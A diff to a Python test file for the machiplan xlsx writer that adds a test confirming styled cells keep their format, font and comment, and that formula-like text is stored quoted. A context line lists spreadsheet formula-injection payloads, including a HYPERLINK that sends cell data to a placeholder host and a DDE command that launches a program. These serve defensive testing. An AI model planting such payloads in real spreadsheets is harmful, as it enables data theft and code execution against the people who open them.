@@ -10,7 +10,7 @@ from openpyxl.cell import WriteOnlyCell
 from openpyxl.comments import Comment
 from openpyxl.styles import Border, Font, Side
 
-from machiplan.interchange.xlsx_writer import EXCEL_MAX_TEXT, FastRows, style_id
+from machiplan.interchange.xlsx_writer import EXCEL_MAX_TEXT, FastRows, Styled, style_id
 
 ATTACKS = ["=HYPERLINK(\"http://x/?\"&A1)", "+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "'=1+1"]  # fmt: skip
 
@@ -151,3 +151,19 @@ def test_any_row_reads_back(tmp_path_factory, row):
             assert have == float(f"{want:.16g}")
         else:
             assert have == want
+
+
+def test_styled_values_keep_style_and_comment(tmp_path):
+    book = Workbook(write_only=True)
+    sheet = book.create_sheet("Data")
+    fast = FastRows(book, sheet)
+    proto = WriteOnlyCell(sheet)
+    proto.number_format = '0.0"%"'
+    proto.font = Font(bold=True)
+    bold = style_id(book, proto._style)
+    fast.append([Styled(32.4, bold, Comment("見込", "machiplan")), Styled(None, bold), Styled("=1+1", bold)])
+    book.save(tmp_path / "b.xlsx")
+    a, b, c = next(load_workbook(tmp_path / "b.xlsx")["Data"].iter_rows())
+    assert (a.value, a.number_format, a.font.b, a.comment.text) == (32.4, '0.0"%"', True, "見込")
+    assert b.value is None and b.font.b
+    assert c.value == "=1+1" and c.data_type == "s" and c.quotePrefix and c.font.b
